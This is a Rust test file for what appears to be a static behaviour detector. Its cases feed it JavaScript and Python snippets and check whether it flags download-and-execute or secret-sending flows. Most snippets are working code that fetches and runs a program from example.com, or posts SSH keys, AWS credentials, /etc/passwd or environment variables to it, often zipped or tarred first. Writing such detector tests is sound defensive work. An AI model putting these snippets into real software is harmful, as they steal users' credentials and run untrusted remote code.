//! Data that goes on without a value of its own: streams into files and requests, copies of files, archives.

use cerebro::behavior::Feature;
use rstest::rstest;

use super::steps;

#[rstest]
#[case::piped(
    "index.js",
    "const fs = require('fs'), cp = require('child_process'); require('https').get('https://example.com/x', r => { const f = fs.createWriteStream('/tmp/x'); r.pipe(f); f.on('finish', () => cp.exec('/tmp/x')) })",
    Feature::RunDownloaded,
    "run downloaded program",
    true
)]
#[case::pipeline(
    "index.js",
    "const fs = require('fs'), cp = require('child_process'), { pipeline } = require('stream/promises'); (async () => { const r = await fetch('https://example.com/x'); await pipeline(r.body, fs.createWriteStream('/tmp/x')); cp.exec('chmod +x /tmp/x && /tmp/x') })()",
    Feature::RunDownloaded,
    "run downloaded program",
    true
)]
#[case::piped_elsewhere(
    "index.js",
    "const fs = require('fs'), cp = require('child_process'); fs.createReadStream('a').pipe(fs.createWriteStream('/tmp/x')); cp.exec('/tmp/x')",
    Feature::RunDownloaded,
    "",
    false
)]
#[case::file_to_request(
    "index.js",
    "require('fs').createReadStream(require('os').homedir() + '/.ssh/id_rsa').pipe(require('https').request('https://example.com', { method: 'POST' }))",
    Feature::SendData,
    "send secret",
    true
)]
#[case::reader(
    "index.js",
    "require('fs').readFile('/etc/passwd', (e, d) => require('https').request('https://example.com', { method: 'POST' }).end(d))",
    Feature::SendData,
    "send secret",
    true
)]
#[case::form(
    "index.js",
    "const f = new FormData(); f.append('e', JSON.stringify(process.env)); fetch('https://example.com', { method: 'POST', body: f })",
    Feature::SendData,
    "send env",
    true
)]
#[case::code_address(
    "index.js",
    "(async () => import('data:text/javascript,' + encodeURIComponent(await (await fetch('https://example.com')).text())))()",
    Feature::RunDownloaded,
    "run downloaded code",
    true
)]
#[case::by_command(
    "index.js",
    "require('child_process').spawn('curl', ['-d', JSON.stringify(process.env), 'https://example.com'])",
    Feature::SendData,
    "send env",
    true
)]
#[case::copied_object(
    "a.py",
    "import urllib.request, shutil, os\nwith urllib.request.urlopen('https://example.com/x') as r, open('/tmp/x', 'wb') as f: shutil.copyfileobj(r, f)\nos.system('/tmp/x')",
    Feature::RunDownloaded,
    "run downloaded program",
    true
)]
#[case::extracted(
    "a.py",
    "import requests, zipfile, io, os\nzipfile.ZipFile(io.BytesIO(requests.get('https://example.com/a').content)).extractall('/tmp/q')\nos.system('/tmp/q/x')",
    Feature::RunDownloaded,
    "run downloaded program",
    true
)]
#[case::beside_extracted(
    "a.py",
    "import requests, zipfile, io, os\nzipfile.ZipFile(io.BytesIO(requests.get('https://example.com/a').content)).extractall('/tmp/q')\nos.system('/tmp/other/x')",
    Feature::RunDownloaded,
    "",
    false
)]
#[case::copied_secret(
    "a.py",
    "import shutil, os, requests\nshutil.copy(os.path.expanduser('~/.ssh/id_rsa'), '/tmp/l')\nrequests.post('https://example.com', files={'f': open('/tmp/l', 'rb')})",
    Feature::SendData,
    "send secret",
    true
)]
#[case::copied_other(
    "a.py",
    "import shutil, requests\nshutil.copy('report.txt', '/tmp/l')\nrequests.post('https://example.com', files={'f': open('/tmp/l', 'rb')})",
    Feature::SendData,
    "send secret",
    false
)]
#[case::zip_file(
    "a.py",
    "import zipfile, requests, os\nwith zipfile.ZipFile('/tmp/a.zip','w') as z:\n    z.write(os.path.expanduser('~/.ssh/id_rsa'))\nrequests.post('https://example.com', files={'f': open('/tmp/a.zip','rb')})",
    Feature::SendData,
    "send secret",
    true
)]
#[case::tar_file(
    "a.py",
    "import tarfile, requests, os\nt=tarfile.open('/tmp/a.tgz','w:gz')\nt.add(os.path.expanduser('~/.ssh'))\nt.close()\nrequests.post('https://example.com', data=open('/tmp/a.tgz','rb').read())",
    Feature::SendData,
    "send secret",
    true
)]
#[case::made_archive(
    "a.py",
    "import shutil, requests, os\nshutil.make_archive('/tmp/a','zip',os.path.expanduser('~/.ssh'))\nrequests.post('https://example.com', data=open('/tmp/a.zip','rb').read())",
    Feature::SendData,
    "send secret",
    true
)]
#[case::zip_in_memory(
    "a.py",
    "import zipfile, requests, os, io\nb=io.BytesIO()\nwith zipfile.ZipFile(b,'w') as z:\n    z.write(os.path.expanduser('~/.ssh/id_rsa'))\nrequests.post('https://example.com', data=b.getvalue())",
    Feature::SendData,
    "send secret",
    true
)]
#[case::tar_in_memory(
    "a.py",
    "import tarfile, requests, os, io\nb=io.BytesIO()\nt=tarfile.open(fileobj=b, mode='w:gz')\nt.add(os.path.expanduser('~/.aws/credentials'))\nt.close()\nb.seek(0)\nrequests.post('https://example.com', files={'f': b})",
    Feature::SendData,
    "send secret",
    true
)]
#[case::written_member(
    "a.py",
    "import zipfile, requests, os\nz=zipfile.ZipFile('/tmp/a.zip','w')\nz.writestr('k', open(os.path.expanduser('~/.ssh/id_rsa')).read())\nz.close()\nrequests.post('https://example.com', files={'f': open('/tmp/a.zip','rb')})",
    Feature::SendData,
    "send secret",
    true
)]
#[case::folder_gone_through(
    "a.py",
    "import zipfile, requests, os\nz=zipfile.ZipFile('/tmp/a.zip','w')\nfor r,d,f in os.walk(os.path.expanduser('~/.ssh')):\n    for n in f:\n        z.write(os.path.join(r,n))\nz.close()\nrequests.post('https://example.com', files={'f': open('/tmp/a.zip','rb')})",
    Feature::SendData,
    "send secret",
    true
)]
#[case::zip_of_javascript(
    "index.js",
    "const Z=require('adm-zip'); const z=new Z(); z.addLocalFile(require('os').homedir()+'/.ssh/id_rsa'); fetch('https://example.com',{method:'POST',body:z.toBuffer()})",
    Feature::SendData,
    "send secret",
    true
)]
#[case::zip_written(
    "index.js",
    "const Z=require('adm-zip'),fs=require('fs'); const z=new Z(); z.addLocalFolder(require('os').homedir()+'/.ssh'); z.writeZip('/tmp/a.zip'); fetch('https://example.com',{method:'POST',body:fs.readFileSync('/tmp/a.zip')})",
    Feature::SendData,
    "send secret",
    true
)]
#[case::archive_piped_to(
    "index.js",
    "const ar=require('archiver'),fs=require('fs'); const o=fs.createWriteStream('/tmp/a.zip'); const a=ar('zip'); a.pipe(o); a.file(require('os').homedir()+'/.ssh/id_rsa',{name:'k'}); a.finalize(); o.on('close',()=>fetch('https://example.com',{method:'POST',body:fs.readFileSync('/tmp/a.zip')}))",
    Feature::SendData,
    "send secret",
    true
)]
#[case::tar_made(
    "index.js",
    "const tar=require('tar'),fs=require('fs'),os=require('os'); tar.c({gzip:true,file:'/tmp/a.tgz'},[os.homedir()+'/.ssh']).then(()=>fetch('https://example.com',{method:'POST',body:fs.createReadStream('/tmp/a.tgz')}))",
    Feature::SendData,
    "send secret",
    true
)]
#[case::tar_piped(
    "index.js",
    "const tar=require('tar'),fs=require('fs'),os=require('os'); tar.c({gzip:true},[os.homedir()+'/.ssh']).pipe(fs.createWriteStream('/tmp/a.tgz')).on('finish',()=>fetch('https://example.com',{method:'POST',body:fs.readFileSync('/tmp/a.tgz')}))",
    Feature::SendData,
    "send secret",
    true
)]
#[case::zip_generated(
    "index.js",
    "const J=require('jszip'),fs=require('fs'); const z=new J(); z.file('k',fs.readFileSync(require('os').homedir()+'/.ssh/id_rsa')); z.generateAsync({type:'nodebuffer'}).then(b=>fetch('https://example.com',{method:'POST',body:b}))",
    Feature::SendData,
    "send secret",
    true
)]
#[case::archive_of_plain_files(
    "a.py",
    "import zipfile, requests\nwith zipfile.ZipFile('/tmp/a.zip', 'w') as z:\n    z.write('a.txt')\nrequests.post('https://example.com', data=open('/tmp/a.zip', 'rb'))",
    Feature::SendData,
    "send secret",
    false
)]
fn what_a_source_holds_is_in_the_target(
    #[case] path: &str,
    #[case] source: &str,
    #[case] feature: Feature,
    #[case] detail: &str,
    #[case] expected: bool,
) {
    let steps = steps(path, source);
    let found = steps.iter().any(|step| step.feature == feature && step.detail.contains(detail));
    assert_eq!(found, expected, "{steps:#?}");
}
